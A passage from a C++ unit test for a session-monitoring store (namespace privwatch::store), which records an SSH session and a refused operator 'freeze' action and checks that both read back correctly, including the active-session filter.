  auto sink = StoreSink::open(c, "app-3");
  ASSERT_TRUE(sink) << sink.error().to_string();
  const uint64_t now = wall_now_ns();
  model::Session s;
  s.id = "s-act";
  s.entry_type = model::EntryType::kSsh;
  s.start_wall_ns = now;
  s.user = s.human = "alice";
  (*sink)->on_session(s);
  model::ResponseAction a;
  a.id = "act-42";
  a.wall_ns = now + 1;
  a.action = model::ActionType::kFreeze;
  a.origin = model::ActionOrigin::kOperator;
  a.result = model::ActionResult::kRefused;
  a.session_id = "s-act";
  a.pids = {77};
  a.reason = "investigating";
  a.actor = "bob";
  a.errors = {"pid 1 is protected"};
  (*sink)->on_action(a);
  (*sink)->close();
  EXPECT_EQ((*sink)->store_stats().dropped_queue, 0u);

  auto st = Store::open_reader(c.path);
  ASSERT_TRUE(st) << st.error().to_string();
  auto d = session_detail(**st, "s-act", {});
  ASSERT_TRUE(d) << d.error().to_string();
  ASSERT_EQ(d->responses.size(), 1u);
  EXPECT_EQ(d->responses[0].id, "act-42");
  EXPECT_EQ(d->responses[0].action, "freeze");
  EXPECT_EQ(d->responses[0].result, "refused");
  EXPECT_EQ(d->responses[0].actor, "bob");
  EXPECT_EQ(d->responses[0].reason, "investigating");
  EXPECT_TRUE(d->session.active);
  SessionFilter f;
  f.active_only = true;
  auto l = list_sessions(**st, f);
  ASSERT_TRUE(l);
  ASSERT_EQ(l->sessions.size(), 1u);  // through the record's active flag
}

}  // namespace
}  // namespace privwatch::store
